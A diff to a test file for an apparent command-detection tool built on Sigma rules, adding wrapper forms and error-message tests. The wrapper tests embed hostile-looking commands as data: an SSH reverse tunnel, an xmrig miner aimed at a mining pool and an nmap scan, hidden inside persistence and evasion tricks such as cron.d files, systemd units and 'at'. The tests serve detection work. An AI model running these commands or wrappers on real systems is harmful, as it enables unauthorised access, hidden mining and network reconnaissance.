@@ -31,7 +31,19 @@ def test_disguises_are_found(line: dict[str, str]) -> None:
 
 
 @pytest.mark.parametrize(
-    "wrapped", ["sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}"]
+    "wrapped",
+    [
+        *("sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}", "env -S '{}'"),
+        *("find /tmp -exec {} \\;", "screen -dmS w {}", "tmux new-session -d '{}'", "kubectl exec pod -- {}"),
+        *("python3 -c \"import os; os.system('{}')\"", "echo '{}' > /tmp/run; sh /tmp/run", "alias w='{}'; w"),
+        *(
+            "bash <<'E'\n{}\nE",
+            "echo '* * * * * root {}' > /etc/cron.d/w",
+            "printf '%s\\n' '{}' | at now",
+            "w() {{ {}; }}; w",
+        ),
+        "cat > w.service <<E\n[Service]\nExecStart={}\nE",
+    ],
 )
 def test_wrappers_hide_nothing(wrapped: str) -> None:
     for command in ("ssh -NR 2222:localhost:22 u@h", "./xmrig -o pool.minexmr.com:4444", "nmap -sT 10.0.0.0/24"):
@@ -180,3 +192,18 @@ def test_a_file_that_is_no_rule_is_named(tmp_path: Path) -> None:
     path.write_text("detection: [")
     with pytest.raises(sigma.BadRule, match=r"x\.yml: no Sigma rule"):
         sigma.load([path])
+    path.write_text("just words")
+    with pytest.raises(sigma.BadRule, match="a YAML mapping with title, logsource and detection"):
+        sigma.load([path])
+    path.write_text(SIGMA.replace("linux", "windows"))
+    with pytest.raises(sigma.BadRule, match="no rule about processes of Linux"):
+        sigma.load([path])
+
+
+def test_traces_that_are_none_are_named(tmp_path: Path) -> None:
+    path = tmp_path / "rubbish.jsonl"
+    path.write_text('rubbish\n{"a": 1}\n')
+    command = [sys.executable, "-m", "ray_guard.cli.__main__", "detect", "--traces", str(path)]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert f"{path}: no line of it is a span" in done.stderr
